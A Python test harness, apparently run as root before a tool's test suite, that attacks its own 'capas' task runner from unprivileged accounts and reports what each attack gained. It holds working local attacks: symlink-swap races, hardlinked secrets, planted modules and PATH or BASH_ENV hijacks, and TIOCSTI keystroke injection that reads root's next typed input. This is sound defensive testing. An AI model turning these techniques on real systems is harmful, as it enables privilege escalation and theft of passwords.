"""Root is attacked by two real accounts: by the one that runs tasks, and by a project's owner.

`./capas test`, called by root, runs this as root before the tests, from root's own checkout, as
`python -IS -c TEXT CHECKOUT ACCOUNT SECOND SWAPS`. The last line that it prints is a JSON object:
by the name of an attack, what it gained; nothing when the text is empty. `test_attack.py` reads it.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import pwd
import shutil
import signal
import subprocess
import sys
import tempfile
import termios
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

sys.path.append(sys.argv[1])
from pipeline.bootstrap import sides
from pipeline.bootstrap.environment import Environment, is_ready
from pipeline.bootstrap.mirror import bring_home, bring_up_to_date, place_of
from pipeline.bootstrap.privileges import child_as, environment_of
from pipeline.bootstrap.sides import Mirror
from pipeline.bootstrap.source import here, opened, project_around
from pipeline.bootstrap.terminal import run_apart

SECRET = "root's own words"
RENAME_EXCHANGE = 2
RESULTS = ("reports/{}.html", "specs/x.lock", "containers/c{}/evil")
LEADING = ("tasks.py", ".envrc", "tests/accounts/limiting/enter-host")


def ended(child: int) -> int:
    """Wait for a child; its exit code."""
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def done_as(account: pwd.struct_passwd, body: Callable[[], object]) -> None:
    """Do something as an account, to its end."""

    def run() -> int:
        body()
        return 0

    assert ended(child_as(account, run)) == 0


def exchange(one: Path, other: Path) -> None:
    """Swap two names at one moment (renameat2(2))."""
    at = -100  # AT_FDCWD
    ctypes.CDLL(None).renameat2(at, os.fsencode(one), at, os.fsencode(other), RENAME_EXCHANGE)


class Attack:
    """A folder of root's that nobody else may enter, and a project whose owner wants into it."""

    def __init__(self, first: pwd.struct_passwd, second: pwd.struct_passwd) -> None:
        self.first, self.second = first, second
        self.treasure = Path(tempfile.mkdtemp(prefix="capas-treasure-", dir="/root"))
        for name in ("specs", "reports", "containers"):
            (self.treasure / name).mkdir()
        (self.treasure / "specs" / "secret.toml").write_text(SECRET)
        (self.treasure / "specs" / "secret.toml").chmod(0o600)
        self.before = self.state()
        self.top = Path(second.pw_dir) / f"attack-{os.getpid()}"
        self.project = self.top / "project"
        self.link = self.top / "link"
        done_as(second, self._make)
        os.link(self.treasure / "specs" / "secret.toml", self.project / "specs" / "linked.toml")

    def _make(self) -> None:
        (self.project / "specs").mkdir(parents=True)
        (self.project / "specs" / "x.toml").write_text('name = "x"\n')
        (self.project / "reports").mkdir()
        os.mkfifo(self.project / "specs" / "pipe.toml")
        self.link.symlink_to(self.treasure)

    def state(self) -> list[tuple[str, int, int, int]]:
        """All that is in the treasure, but for times of reading."""
        return sorted(
            (str(path), path.lstat().st_uid, path.lstat().st_mode, path.lstat().st_ctime_ns)
            for path in [self.treasure, *self.treasure.rglob("*")]
            if path.name != "secret.toml"
        )

    def swap(self, *, inside: bool) -> int:
        """Begin to swap the project, or a folder in it, for the link, without end; the process."""

        def run() -> int:
            one = self.project / "reports" if inside else self.project
            while True:
                exchange(one, self.link)
                for _ in range(200):
                    pass

        return child_as(self.second, run)

    def end(self) -> None:
        """Remove everything."""
        for path in (self.top, self.treasure):
            with suppress(OSError):
                path.unlink()
            shutil.rmtree(path, ignore_errors=True)


def enter(attack: Attack) -> None:
    """Stand in the project, as a shell does; a `cd` that is led elsewhere is not ours."""
    while True:
        with suppress(OSError):
            os.chdir(attack.project)
            if os.stat(".").st_uid == attack.second.pw_uid:
                return


def one_round(attack: Attack, number: int) -> str:
    """What `./capas TASK` does in a stranger's folder: copy it, let the task work, bring home."""
    enter(attack)
    source = project_around(here())
    assert source is not None
    vars(sides)["tell"] = lambda _line: None  # sixty times the same
    place = place_of(str(attack.project), attack.first.pw_dir)
    mirror = Mirror(source, place, is_program=False)
    try:
        bring_up_to_date(attack.first, mirror)

        def task() -> None:
            for path in (*RESULTS, *LEADING):
                with suppress(OSError):  # the owner's link was copied as the link that it is
                    made = Path(place, path.format(number))
                    made.parent.mkdir(parents=True, exist_ok=True)
                    made.write_text(f"evil {number}")

        done_as(attack.first, task)
        bring_home(attack.first, mirror)
    finally:
        os.chdir("/")
        os.close(source.descriptor)
    return place


def swapped(attack: Attack, swaps: int, *, inside: bool) -> str:
    """Rounds while the owner swaps; what that gained."""
    swapper = attack.swap(inside=inside)
    place, brought = "", 0
    try:
        for number in range(swaps):
            place = one_round(attack, number)
    finally:
        os.kill(swapper, signal.SIGKILL)
        os.waitpid(swapper, 0)
    if attack.project.is_symlink():
        exchange(attack.project, attack.link)
    if (attack.project / "reports").is_symlink():
        exchange(attack.project / "reports", attack.link)
    gained = []
    if attack.state() != attack.before:
        gained.append(f"root's folder was written: {attack.state()}")
    gained += [
        f"root's file was read: {path}"
        for path in Path(place).rglob("*")
        if path.is_file() and not path.is_symlink() and SECRET.encode() in path.read_bytes()
    ]
    for path in attack.project.rglob("*"):
        if path.name == "linked.toml":
            continue
        brought += path.name.endswith(".html")
        if path.lstat().st_uid != attack.second.pw_uid:
            gained.append(f"a file of root's in the project: {path}")
        executable = path.is_file() and path.stat().st_mode & 0o111
        if executable or path.name in {"tasks.py", ".envrc", "enter-host"}:
            gained.append(f"what could be run came back: {path}")
    if not inside and brought != swaps:
        gained.append(f"only {brought} of {swaps} results came back")
    shutil.rmtree(os.path.dirname(place), ignore_errors=True)
    return "\n".join(gained)


def code_of_a_checkout(attack: Attack) -> str:
    """A task changes what root would run in a checkout of root's."""
    checkout = attack.treasure / "checkout"
    for path in ("tests/accounts/limiting/enter-host", "tasks.py", "capas", "pyproject.toml"):
        (checkout / path).parent.mkdir(parents=True, exist_ok=True)
        (checkout / path).write_text("root's")
    source = opened(str(checkout))
    mirror = Mirror(source, place_of(str(checkout), attack.first.pw_dir), is_program=True)
    bring_up_to_date(attack.first, mirror)

    def task() -> None:
        for path in list(Path(mirror.place).rglob("*")):
            if path.is_file():
                path.write_text("evil")
        for name in ("invoke.yaml", "conftest.py", "pipeline.py", "tests/accounts/limiting/more"):
            Path(mirror.place, name).write_text("evil")

    done_as(attack.first, task)
    bring_home(attack.first, mirror)
    bring_up_to_date(attack.first, mirror)
    files = [path for path in checkout.rglob("*") if path.is_file()]
    found = [str(path) for path in files if path.read_text() == "evil"]
    shutil.rmtree(checkout)
    shutil.rmtree(os.path.dirname(mirror.place), ignore_errors=True)
    return "\n".join(found)


def a_stamp_that_waits(attack: Attack) -> str:
    """A FIFO, a link and a device's name in place of the stamp of the account's environment."""
    folder = Path(attack.first.pw_dir) / f"stamps-{os.getpid()}"
    environment = Environment(str(folder), attack.first, environment_of(attack.first, {}))
    stamp = folder / ".venv" / "ready-base"
    gained = []
    done_as(attack.first, lambda: stamp.parent.mkdir(parents=True))
    done_as(attack.first, (folder / "pyproject.toml").touch)
    plants: tuple[Callable[[], object], ...] = (
        lambda: os.mkfifo(stamp),
        lambda: stamp.symlink_to("/dev/tty"),
        lambda: stamp.symlink_to(attack.treasure / "specs" / "secret.toml"),
        stamp.mkdir,
    )
    for plant in plants:
        done_as(attack.first, plant)
        before = time.monotonic()
        if is_ready(environment, "base") or time.monotonic() - before > 5:
            gained.append("it was taken for a stamp, or waited for")
        stamp.rmdir() if stamp.is_dir() and not stamp.is_symlink() else stamp.unlink()
    shutil.rmtree(folder)
    return "\n".join(gained)


PLANTED = (
    *("json.py", "runpy.py", "rich/__init__.py", "invoke/__init__.py", "invoke.py", "tasks.py"),
    *("sitecustomize.py", "pipeline/__init__.py", "pipeline/__main__.py", "pipeline/bootstrap.py"),
)
PROGRAMS = ("python3", "python", "git", "su", "useradd", "mount", "sh")


def code_in_the_current_folder(attack: Attack) -> str:
    """Root validates a stranger's project, led by whatever its folder and its caller bring."""
    project, told = attack.top / "handed in", attack.top / "told"

    def hand_in() -> None:
        for name in (*PLANTED, *PROGRAMS):
            made = project / name
            made.parent.mkdir(parents=True, exist_ok=True)
            made.write_text(
                f"#!/bin/sh\necho $0 >> {told}\n"
                if name in PROGRAMS
                else f"open({str(told)!r}, 'a').write(__file__ + chr(10))\n"
            )
            made.chmod(0o755)
        (project / "specs").mkdir()
        (project / "specs" / "x.toml").write_text(
            'name = "x"\n[images.x.versions]\n"1.0" = { context = "../c" }\n'
        )
        (project / "c").mkdir()
        (project / "c" / "Containerfile").write_text("FROM debian:12\n")
        (project / "invoke.yaml").write_text("tasks:\n  executor_class: json.Executor\n")
        (project / ".env").write_text(f"PATH={project}\nPYTHONPATH={project}\n")
        (project / "pyvenv.cfg").write_text(f"home = {project}\n")
        told.touch()
        told.chmod(0o666)  # whoever runs it can tell

    done_as(attack.second, hand_in)
    environment = {
        "CAPAS_ACCOUNT": attack.first.pw_name,
        "PATH": f".:{os.environ['PATH']}:",
        **dict.fromkeys(("PYTHONPATH", "PYTHONHOME", "PYTHONUSERBASE"), str(project)),
        "PYTHONSTARTUP": f"{project}/json.py",
        "BASH_ENV": f"{project}/sh",
    }
    done = subprocess.run(
        [f"{sys.argv[1]}/capas", "validate"],
        cwd=project,
        env=environment,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
    )
    place = place_of(str(project), attack.first.pw_dir)
    shutil.rmtree(os.path.dirname(place), ignore_errors=True)
    gained = told.read_text()
    return (
        gained if done.returncode == 0 else f"{gained}{done.returncode} {done.stdout}{done.stderr}"
    )


TYPES = """
import fcntl, os, signal, sys, termios
signal.signal(signal.SIGHUP, signal.SIG_IGN)
for number in (0, 1, 2):
    for letter in b"id>/tmp/evil\\n":
        try:
            fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))
        except OSError:
            pass
print("terminal", os.isatty(0), flush=True)
if os.fork() == 0:  # it stays, and reads what root types next
    os.setsid()
    try:
        stolen = os.read(0, 100)
    except OSError:
        stolen = b""
    with open(sys.argv[1], "wb") as file:
        file.write(stolen)
"""


def keys_of_roots_terminal(attack: Attack) -> str:
    """A task types on root's terminal, and stays to read what root types next."""
    main, ours = os.openpty()
    quiet = termios.tcgetattr(ours)
    quiet[3] &= ~termios.ECHO
    termios.tcsetattr(ours, termios.TCSANOW, quiet)
    stolen = Path(attack.first.pw_dir) / f"stolen-{os.getpid()}"

    def root() -> int:
        os.setsid()
        fcntl.ioctl(ours, termios.TIOCSCTTY, 0)
        for number in (0, 1, 2):
            os.dup2(ours, number)
        argv = ["/usr/bin/python3", "-IS", "-c", TYPES, str(stolen)]
        run_apart(
            lambda body: child_as(attack.first, body),
            argv,
            cwd="/",
            environment=environment_of(attack.first, {}),
        )
        os.set_blocking(0, False)
        try:
            return 10 if os.read(0, 100) else 0
        except BlockingIOError:
            return 0

    forked = os.fork()
    if not forked:
        os._exit(root())
    shown = b""
    while b"terminal" not in shown:
        shown += os.read(main, 100)
    gained = ["root's terminal was typed on"] if ended(forked) else []
    os.write(main, b"root's next password\n")
    for _ in range(100):
        if stolen.exists():
            break
        time.sleep(0.05)
    if not stolen.exists() or b"password" in stolen.read_bytes():
        gained.append("what root types next can be read")
    if b"terminal True" not in shown:
        gained.append("the task had no terminal")
    stolen.unlink(missing_ok=True)
    return "\n".join(gained)


def main(first: str, second: str, swaps: int) -> None:
    """Carry out all attacks, and tell."""
    signal.alarm(120 + 5 * swaps)  # nothing waits for ever
    attack = Attack(pwd.getpwnam(first), pwd.getpwnam(second))
    try:
        told = {
            "swap of the project": swapped(attack, swaps, inside=False),
            "swap of a folder in it": swapped(attack, swaps, inside=True),
            "code of a checkout": code_of_a_checkout(attack),
            "a stamp that waits": a_stamp_that_waits(attack),
            "code in the current folder": code_in_the_current_folder(attack),
            "keys of root's terminal": keys_of_roots_terminal(attack),
        }
    finally:
        os.chdir("/")
        attack.end()
    print(json.dumps({"swaps": swaps, "gained": told}))


main(sys.argv[2], sys.argv[3], int(sys.argv[4]))
